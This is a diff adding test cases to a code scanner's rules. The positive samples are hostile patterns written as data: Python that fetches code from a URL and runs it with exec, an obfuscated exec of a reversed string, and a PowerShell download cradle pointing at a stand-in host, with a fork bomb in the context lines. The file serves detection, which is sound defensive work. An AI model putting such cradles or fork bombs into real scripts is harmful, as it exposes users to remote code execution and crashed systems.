@@ -392,6 +392,28 @@ CASES: list[tuple[Rule, str, str, str]] = [
         "#!/bin/sh\n:(){ :|: & };:\n",
         "#!/bin/sh\nf(){ echo hi; }\nf\n",
     ),
+    (
+        executes_code_at_remote_url_rule,
+        "fetch.py",
+        "import requests\n\nanswer = requests.get(URL)\nexec(answer.text)\n",
+        # the scripts a shipped XML document embeds, run with no download in the file
+        "import xml.etree.ElementTree as ET\n\nfor node in ET.parse(path).findall('Script'):\n"
+        "    exec(node.text, locals())\n",
+    ),
+    (
+        decode_and_execute_rule,
+        "rev.py",
+        "CODE = ')(niam'\nexec(CODE[::-1])\n",
+        "import numpy as np\n\ncoeffs = np.array(eval(items[2])[::-1])\n",
+    ),
+    (
+        powershell_dropper_rule,
+        "dl.ps1",
+        "$wc = New-Object Net.WebClient\nIEX $wc.DownloadString('https://x.example.net/a')\n"
+        "# powershell\n",
+        # a PDF viewer's download manager next to an `iex` and a language list, in a bundle
+        "manager.openOrDownloadData(data, name); var iex = 1; var langs = ['powershell'];\n",
+    ),
 ]
 
 
